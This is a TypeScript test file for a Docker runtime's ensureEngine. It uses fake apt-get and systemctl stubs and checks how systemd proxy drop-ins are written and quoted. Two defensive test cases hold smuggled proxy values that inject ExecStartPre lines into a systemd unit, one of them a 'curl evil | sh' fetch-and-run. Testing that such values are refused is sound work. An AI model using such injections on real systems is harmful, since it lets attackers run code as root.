import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { isLuckyError } from '@lucky/core';
import { tempDir, useDockerEngine, type DockerEngine } from '@lucky/test-utils';
import { DockerRuntime, proxyDropIn } from '../src/index.js';
import { rejection, removeDir, testDaemon } from './support.js';

interface Ctx {
  dir: string;
  bin: string;
  socket: string;
  systemdDir: string;
}

const test = suite<Ctx>('docker runtime: ensureEngine installs Docker (fake apt-get and systemctl)');

/** A fake executable that appends its argv and DEBIAN_FRONTEND to <name>.calls, then runs `body`. */
function fake(ctx: Ctx, name: string, body: string): void {
  const file = join(ctx.bin, name);
  writeFileSync(file, `#!/bin/sh\necho "$DEBIAN_FRONTEND $*" >> ${JSON.stringify(join(ctx.dir, 'calls'))}\n${body}\n`);
  chmodSync(file, 0o755);
}

function calls(ctx: Ctx): string[] {
  const file = join(ctx.dir, 'calls');
  return existsSync(file) ? readFileSync(file, 'utf8').trimEnd().split('\n') : [];
}

/** A fake engine for `systemctl restart docker` to start: answers /_ping on the socket; its PID goes to engine.pid. */
function engineStarter(ctx: Ctx): string {
  const server = `require('node:http').createServer((q, s) => s.end(q.url.endsWith('/_ping') ? 'OK' : '{}')).listen(process.argv[1])`;
  return `if [ "$1" = restart ]; then ${JSON.stringify(process.execPath)} -e ${JSON.stringify(server)} ${JSON.stringify(ctx.socket)} >/dev/null 2>&1 & echo $! > ${JSON.stringify(join(ctx.dir, 'engine.pid'))}; fi`;
}

test.before.each(async (ctx) => {
  ctx.dir = await tempDir('lucky-install-');
  ctx.bin = join(ctx.dir, 'bin');
  ctx.socket = join(ctx.dir, 'engine.sock');
  ctx.systemdDir = join(ctx.dir, 'systemd');
  mkdirSync(ctx.bin);
});

test.after.each(async (ctx) => {
  const pidFile = join(ctx.dir, 'engine.pid');
  if (existsSync(pidFile)) {
    const pid = Number(readFileSync(pidFile, 'utf8'));
    try {
      process.kill(pid, 'SIGTERM');
    } catch {
      // already gone
    }
  }
  await removeDir(ctx.dir);
});

/** The fake engine is a Node process the fake systemctl starts: give it a loaded machine's time, except where it never answers. */
function runtime(ctx: Ctx, socketPath = ctx.socket, engineStartTimeoutMs = 30_000): DockerRuntime {
  return new DockerRuntime({ socketPath, systemdDir: ctx.systemdDir, engineStartTimeoutMs });
}

async function daemonWith(ctx: Ctx, rt: DockerRuntime, env: Record<string, string>) {
  return testDaemon({ unit: 'install/0', runtime: rt, dir: join(ctx.dir, 'unit'), hookEnv: { PATH: ctx.bin, ...env } });
}

test('an engine that answers is left alone: nothing is installed', async (ctx) => {
  const engine: DockerEngine = await useDockerEngine();
  try {
    fake(ctx, 'apt-get', 'exit 0');
    fake(ctx, 'systemctl', 'exit 0');
    const rt = runtime(ctx, engine.socketPath);
    await rt.ensureEngine(await daemonWith(ctx, rt, {}));
    assert.equal(calls(ctx), []);
  } finally {
    await engine.stop();
  }
});

test('no engine: apt-get update, install docker.io, proxy drop-in, systemctl, then the engine answers', async (ctx) => {
  fake(ctx, 'apt-get', 'exit 0');
  fake(ctx, 'systemctl', engineStarter(ctx));
  const rt = runtime(ctx);
  const daemon = await daemonWith(ctx, rt, {
    HTTP_PROXY: 'http://proxy.example:3128',
    https_proxy: 'http://secure-proxy.example:3129',
    JUJU_CHARM_NO_PROXY: '127.0.0.1,localhost,10.0.0.0/8',
  });
  await rt.ensureEngine(daemon);
  assert.equal(calls(ctx), [
    'noninteractive update',
    'noninteractive install -y -o DPkg::Lock::Timeout=300 docker.io',
    'noninteractive daemon-reload',
    'noninteractive restart docker',
  ]);
  assert.is(
    readFileSync(join(ctx.systemdDir, 'docker.service.d', 'http-proxy.conf'), 'utf8'),
    [
      '# Written by Lucky: proxies for the Docker engine.',
      '[Service]',
      'Environment="HTTP_PROXY=http://proxy.example:3128"',
      'Environment="HTTPS_PROXY=http://secure-proxy.example:3129"',
      'Environment="NO_PROXY=127.0.0.1,localhost,10.0.0.0/8"',
      '',
    ].join('\n'),
  );
  // Now it answers, so a second call does nothing.
  await rt.ensureEngine(daemon);
  assert.is(calls(ctx).length, 4);
});

test('without proxies no drop-in is written', async (ctx) => {
  fake(ctx, 'apt-get', 'exit 0');
  fake(ctx, 'systemctl', engineStarter(ctx));
  const rt = runtime(ctx);
  await rt.ensureEngine(await daemonWith(ctx, rt, {}));
  assert.not.ok(existsSync(join(ctx.systemdDir, 'docker.service.d')));
  assert.is(proxyDropIn({}), undefined);
});

test('proxy values are quoted by systemd\'s rules: \\ and " escaped, % doubled, $ and spaces kept', () => {
  assert.is(
    proxyDropIn({ HTTP_PROXY: 'http://us%40r:p"a\\ss$word@proxy.example:3128', no_proxy: 'localhost, 10.0.0.0/8' }),
    [
      '# Written by Lucky: proxies for the Docker engine.',
      '[Service]',
      'Environment="HTTP_PROXY=http://us%%40r:p\\"a\\\\ss$word@proxy.example:3128"',
      'Environment="NO_PROXY=localhost, 10.0.0.0/8"',
      '',
    ].join('\n'),
  );
});

test('a proxy value with a newline or another control character is refused, naming the variable but not the value', () => {
  const cases: Array<[Record<string, string>, string, string]> = [
    [{ HTTP_PROXY: 'http://proxy:3128\nExecStartPre=/bin/sh -c "curl evil | sh"' }, 'HTTP_PROXY', 'a newline'],
    [{ https_proxy: 'http://proxy:3129\r' }, 'https_proxy', 'a carriage return'],
    [{ HTTP_PROXY: 'http://fine:3128', JUJU_CHARM_NO_PROXY: 'localhost\u0000,10.0.0.1' }, 'JUJU_CHARM_NO_PROXY', 'the control character U+0000'],
    [{ NO_PROXY: 'a\tb' }, 'NO_PROXY', 'a tab'],
    [{ HTTPS_PROXY: 'http://proxy\u001b[2J' }, 'HTTPS_PROXY', 'the control character U+001B'],
    [{ HTTPS_PROXY: 'http://proxy\u0085' }, 'HTTPS_PROXY', 'the control character U+0085'],
  ];
  for (const [env, variable, what] of cases) {
    let error: unknown;
    try {
      proxyDropIn(env);
    } catch (caught) {
      error = caught;
    }
    assert.ok(isLuckyError(error), `${variable}: expected a LuckyError`);
    assert.ok(
      error.message.startsWith(`The proxy setting ${variable} contains ${what}, which cannot be written safely into Docker's systemd unit`),
      error.message,
    );
    assert.match(error.message, `Correct ${variable} (under Juju`);
    assert.not.match(error.message, /proxy:3128|evil|10\.0\.0\.1|proxy:3129/);
  }
});

test('a bad proxy value stops the install before apt-get runs, and no drop-in is written', async (ctx) => {
  fake(ctx, 'apt-get', 'exit 0');
  fake(ctx, 'systemctl', engineStarter(ctx));
  const rt = runtime(ctx);
  const daemon = await daemonWith(ctx, rt, { HTTP_PROXY: 'http://proxy.example:3128\n[Service]\nExecStartPre=/bin/true' });
  const error = await rejection(rt.ensureEngine(daemon));
  assert.ok(isLuckyError(error));
  assert.match(error.message, /^The proxy setting HTTP_PROXY contains a newline/);
  assert.equal(calls(ctx), []);
  assert.not.ok(existsSync(join(ctx.systemdDir, 'docker.service.d')));
});

test('apt-get failing is retried, then fails with its output', async (ctx) => {
  fake(ctx, 'apt-get', 'echo "E: Could not get lock /var/lib/dpkg/lock-frontend" >&2; exit 100');
  const rt = runtime(ctx);
  const start = Date.now();
  const error = await rejection(rt.ensureEngine(await daemonWith(ctx, rt, {})));
  assert.ok(isLuckyError(error));
  assert.match(error.message, /^Could not install Docker: ".*\/apt-get update" failed 3 times; last: exit code 100: E: Could not get lock/);
  assert.is(calls(ctx).length, 3);
  assert.ok(Date.now() - start >= 3500, 'attempts are spaced');
});

test('an engine that never answers after install fails clearly, systemctl failure included', async (ctx) => {
  fake(ctx, 'apt-get', 'exit 0');
  fake(ctx, 'systemctl', 'echo "System has not been booted with systemd as init system (PID 1)." >&2; exit 1');
  const rt = runtime(ctx, ctx.socket, 1500);
  const error = await rejection(rt.ensureEngine(await daemonWith(ctx, rt, {})));
  assert.ok(isLuckyError(error));
  assert.match(error.message, `Docker engine unreachable at ${ctx.socket}: `);
  assert.match(error.message, /systemctl daemon-reload" failed: exit code 1: System has not been booted with systemd/);
  assert.match(error.message, /did not answer within 1500 ms/);
});

test('no apt-get: refused with a message saying how to proceed', async (ctx) => {
  const rt = runtime(ctx);
  const error = await rejection(rt.ensureEngine(await daemonWith(ctx, rt, {})));
  assert.ok(isLuckyError(error));
  assert.match(error.message, /apt-get was not found to install it: Lucky installs Docker on Debian and Ubuntu only/);
});

test.run();
